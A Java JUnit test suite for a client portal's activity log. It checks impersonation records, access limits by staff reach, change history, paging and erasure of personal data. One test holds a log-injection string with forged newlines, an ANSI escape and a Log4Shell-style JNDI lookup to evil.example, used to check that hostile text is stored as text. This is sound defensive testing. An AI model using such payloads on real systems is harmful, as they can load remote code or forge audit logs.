package io.clientportal.activity;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.clientportal.World;
import io.clientportal.fields.Value;
import io.clientportal.kernel.ClientId;
import io.clientportal.kernel.Contact;
import io.clientportal.kernel.Origin;
import io.clientportal.kernel.Permission;
import io.clientportal.kernel.PortalException.NotAllowed;
import io.clientportal.kernel.PortalException.NotFound;
import io.clientportal.kernel.Reach;
import io.clientportal.kernel.Staff;
import io.clientportal.profile.ChangeRequest;
import io.clientportal.profile.Profile;
import io.clientportal.profile.Proposal;
import io.clientportal.profile.Reply;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** The activity log, as staff read it. */
class ActivitySpec {

    private final World world = new World();
    private final ClientId client =
            world.client("Ada Miller", Map.of("tax_number", Value.of("T-77-4711"), "occupation", Value.of("Baker")));
    private final Contact ada = world.contact(client, "Ada Miller");

    private void propose(Contact contact, String occupation) {
        world.clock.advance(Duration.ofMillis(1));
        Profile mine = world.portal.as(contact).client(client).profile();
        mine.propose(Proposal.on(mine.form()).set("occupation", occupation));
    }

    private void apply() {
        world.clock.advance(Duration.ofMillis(1));
        Profile firms = world.desk().client(client).profile();
        ChangeRequest head = firms.queue().get(0);
        firms.acceptRest(head.id(), firms.review(head.id()).record());
        firms.apply(head.id(), Reply.telling("Merci Quetzal"));
    }

    private List<ActivityView> log() {
        return world.desk().client(client).activity().latest();
    }

    @Nested
    class Of_a_contact {

        private final Staff emil = world.limitedTo("Emil", client);

        private List<String> rights(ActivityLog log) {
            return log.latest().stream().map(ActivityView::right).toList();
        }

        @Test
        @Tag("IMP-04")
        @Tag("LOG-01")
        void a_look_through_its_eyes_is_read_in_the_clients_log_from_start_to_end_with_both_names() {
            Staff ida = world.staff("Ida", Reach.of(Set.of(client), Set.of(Permission.IMPERSONATE)));
            world.portal.as(ida).viewAs(ada.id(), "She asked about her taxes").clients();
            world.clock.advance(Duration.ofMillis(1));
            world.portal.as(ida).viewings().end();

            List<ActivityView> read =
                    world.portal.as(emil).client(client).activity().latest();
            assertThat(read)
                    .filteredOn(entry -> entry.right().startsWith("viewing."))
                    .hasSize(2)
                    .allSatisfy(entry -> {
                        assertThat(entry.toString()).contains("Ida", "Ada Miller");
                        assertThat(entry.intact()).isTrue();
                    });
            assertThat(read).anySatisfy(entry -> {
                assertThat(entry.right()).isEqualTo("access.home");
                assertThat(entry.viewer()).isEqualTo("Ida");
            });
        }

        @Test
        @Tag("LOG-01")
        void what_belongs_to_no_client_is_read_by_staff_who_reach_the_contact_and_by_nobody_else() {
            ClientId other = world.client("Other");
            Contact otto = world.contact(other, "Otto");
            world.portal.as(emil).client(client).access().contacts();
            world.portal.as(world.partner).viewAs(otto.id(), "He asked about his taxes");
            world.portal.as(world.partner).viewings().end();
            world.portal.as(world.partner).viewAs(ada.id(), "She asked about her taxes");

            ActivityLog ofAda = world.portal.as(emil).client(client).activity(ada.id());
            assertThat(rights(ofAda)).contains("viewing.start", "access.add").doesNotContain("viewing.end");
            assertThat(world.portal.as(emil).client(client).activity(otto.id()).latest())
                    .isEmpty();
            assertThat(rights(world.portal.as(emil).activity()))
                    .contains("viewing.start")
                    .doesNotContain("viewing.end");
            assertThat(rights(world.desk().activity())).contains("viewing.start", "viewing.end");
            assertThat(ofAda.before(ofAda.latest().get(0).id()))
                    .hasSize(ofAda.latest().size() - 1);
        }

        @Test
        @Tag("LOG-01")
        @Tag("FRM-01")
        void another_client_that_it_asked_for_is_not_named_to_who_does_not_reach_it() {
            ClientId other = world.client("Other");
            assertThatThrownBy(
                            () -> world.portal.as(ada).client(other).profile().form())
                    .isInstanceOf(NotFound.class);

            assertThat(world.portal.as(emil).client(client).activity(ada.id()).latest())
                    .anyMatch(ActivityView::refused)
                    .allSatisfy(entry -> assertThat(entry.toString()).doesNotContain(other.value()));
            assertThat(world.desk().client(client).activity(ada.id()).latest().toString())
                    .contains(other.value());
        }
    }

    @Nested
    class An_entry {

        @Test
        @Tag("PRO-23")
        @Tag("LOG-01")
        void proves_what_was_changed_from_what_to_what_by_whom_on_whose_proposal_when() {
            propose(ada, "Mason");
            world.clock.advance(Duration.ofHours(2));
            apply();

            ActivityView entry = log().get(0);
            assertThat(entry.text(Locale.ENGLISH)).isEqualTo("Applied proposed changes");
            assertThat(entry.at()).isEqualTo(world.clock.instant());
            assertThat(entry.actorKind()).isEqualTo("staff");
            assertThat(entry.actorId()).isEqualTo("partner");
            assertThat(entry.actor()).isEqualTo("Petra Partner");
            assertThat(entry.before()).containsEntry("occupation", "Baker");
            assertThat(entry.after()).containsEntry("occupation", "Mason");
            assertThat(entry.details()).containsEntry("proposedBy", "Ada Miller");
            assertThat(entry.client()).isEqualTo(client);
            assertThat(entry.intact()).isTrue();
            assertThat(entry.erased()).isFalse();
        }

        @Test
        @Tag("LOG-01")
        void says_from_where_the_contact_called() {
            propose(ada.from(new Origin("192.0.2.7", "Firefox", "req-1")), "Mason");
            ActivityView entry = log().get(0);
            assertThat(entry.right()).isEqualTo("profile.propose");
            assertThat(entry.actorKind()).isEqualTo("contact");
            assertThat(entry.actor()).isEqualTo("Ada Miller");
            assertThat(entry.address()).isEqualTo("192.0.2.7");
            assertThat(entry.device()).isEqualTo("Firefox");
            assertThat(entry.request()).isEqualTo("req-1");
        }

        @Test
        @Tag("SEC-144")
        void keeps_hostile_text_as_text() {
            String evil = "x\n2026 admin did it \u001b[31m ${jndi:ldap://evil.example} \r\n\"}";
            propose(ada.from(new Origin("192.0.2.7", evil, null)), "${jndi:ldap://evil.example}");
            assertThat(log()).hasSizeLessThan(10);
            assertThat(log().get(0).device()).isEqualTo(evil);
            assertThat(log().get(0).intact()).isTrue();
        }

        @Test
        @Tag("LOG-01")
        void is_left_by_a_refusal_too_even_where_the_hosts_transaction_fails() {
            Staff elsewhere = world.limitedTo("Emil", world.client("Other Client"));
            world.clock.advance(Duration.ofMillis(1));
            assertThatThrownBy(() -> world.stores.inHostTransaction(() ->
                            world.portal.as(elsewhere).client(client).profile().record()))
                    .isInstanceOf(NotFound.class);
            assertThat(world.desk().activity().latest().get(0)).satisfies(entry -> {
                assertThat(entry.refused()).isTrue();
                assertThat(entry.actor()).isEqualTo("Emil");
                assertThat(entry.subjectId()).isEqualTo(client.value());
                assertThat(entry.text(Locale.GERMAN)).isEqualTo("Abgelehnt: Datensatz angesehen");
            });
        }

        @Test
        @Tag("PRO-33")
        void holds_no_values_of_fields_that_the_reader_does_not_see() {
            propose(ada, "Mason");
            apply();
            Staff limited = world.staff("Lena", Reach.all().hiding(Set.of("occupation")));
            ActivityView entry =
                    world.portal.as(limited).client(client).activity().latest().get(0);
            assertThat(entry.before()).doesNotContainKey("occupation");
            assertThat(entry.after()).doesNotContainKey("occupation");
            assertThat(entry.details().get("changes")).isEqualTo(List.of());
            assertThat(entry.intact()).isTrue();
        }
    }

    @Nested
    class The_log {

        @Test
        void of_a_client_holds_that_client_alone_latest_first_and_in_pages() {
            for (int i = 0; i < ActivityLog.PAGE + 5; i++) {
                world.clock.advance(Duration.ofMinutes(1));
                Profile mine = world.portal.as(ada).client(client).profile();
                mine.withdraw(mine.propose(Proposal.on(mine.form()).set("name", "Ada " + i))
                        .id());
            }
            ActivityLog log = world.desk().client(client).activity();
            List<ActivityView> all = new ArrayList<>(log.latest());
            assertThat(all).hasSize(ActivityLog.PAGE);
            List<ActivityView> page = log.before(all.get(all.size() - 1).id());
            while (!page.isEmpty()) {
                all.addAll(page);
                page = log.before(page.get(page.size() - 1).id());
            }
            assertThat(all).hasSizeGreaterThan(2 * ActivityLog.PAGE).allMatch(entry -> client.equals(entry.client()));
            assertThat(all).extracting(ActivityView::id).doesNotHaveDuplicates();
            assertThat(all).extracting(ActivityView::at).isSortedAccordingTo((a, b) -> b.compareTo(a));
        }

        @Test
        @Tag("FRM-01")
        @Tag("FRM-05")
        void of_the_firm_is_limited_to_the_members_reach() {
            ClientId other = world.client("Other Client");
            Staff limited = world.limitedTo("Emil", other);
            assertThat(world.portal.as(limited).activity().latest())
                    .isNotEmpty()
                    .allMatch(entry -> other.equals(entry.client()));
            assertThatThrownBy(() ->
                            world.portal.as(limited).client(client).activity().latest())
                    .isInstanceOf(NotFound.class);
            assertThat(world.anotherFirm().desk().activity().latest()).isEmpty();
        }

        @Test
        @Tag("FRM-05")
        void is_closed_to_contacts_and_to_staff_who_reach_nothing() {
            Staff nobody = world.staff("Nobody", Reach.of(Set.of(), Set.of(Permission.SETTINGS)));
            assertThatThrownBy(() -> world.portal.as(nobody).activity().latest())
                    .isInstanceOf(NotAllowed.class);
            assertThatThrownBy(
                            () -> world.portal.as(ada).client(client).activity().latest())
                    .isInstanceOf(NotFound.class);
        }
    }

    @Nested
    class Erasing_a_key {

        @Test
        @Tag("LOG-05")
        @Tag("SEC-145")
        void leaves_no_value_of_that_person_readable_in_activity_requests_and_notices() {
            propose(ada, "Zanzibar");
            apply();
            propose(ada, "Timbuktu");
            world.mails();
            assertThat(log().toString()).contains("Zanzibar", "Timbuktu");

            world.stores.eraseKey(world.firm.value(), client.value());

            assertGone("Zanzibar", "Timbuktu", "T-77-4711", "Merci Quetzal");
            List<ActivityView> firms = world.desk().activity().latest().stream()
                    .filter(entry -> client.equals(entry.client()))
                    .toList();
            assertThat(firms).isNotEmpty().allSatisfy(entry -> {
                assertThat(entry.erased()).isTrue();
                assertThat(entry.intact())
                        .as("the log still proves what was written")
                        .isTrue();
                assertThat(entry.actor()).isEmpty();
                assertThat(entry.before()).isEmpty();
                assertThat(entry.after()).isEmpty();
                assertThat(entry.details()).isEmpty();
                assertThat(entry.right()).isNotEmpty();
            });
            assertThat(log()).allMatch(ActivityView::erased);
        }

        private void assertGone(String... values) {
            String dump = world.stores.dump();
            for (String value : values) {
                assertThat(dump.contains(value)).as(value).isFalse();
            }
        }

        @Test
        @Tag("LOG-05")
        void is_not_even_needed_for_a_dump_to_hold_nothing() {
            propose(ada, "Zanzibar");
            apply();
            assertGone("Zanzibar", "T-77-4711", "Merci Quetzal");
        }
    }

    @Nested
    class Words {

        @Test
        void exist_in_every_language() {
            for (String language : ActivityWords.LANGUAGES) {
                assertThat(ActivityWords.words(language).stringPropertyNames())
                        .as(language)
                        .isEqualTo(ActivityWords.words("en").stringPropertyNames());
            }
            assertThat(ActivityWords.of("profile.apply", false, Locale.JAPANESE))
                    .isEqualTo("Applied proposed changes");
            assertThat(ActivityWords.of("document.trash_it", false, Locale.ENGLISH))
                    .isEqualTo("document trash it");
        }

        @Test
        void exist_for_everything_that_was_done_here() {
            propose(ada, "Mason");
            apply();
            assertThat(world.desk().activity().latest())
                    .allSatisfy(entry -> assertThat(ActivityWords.words("en").stringPropertyNames())
                            .contains(entry.right()));
        }
    }
}
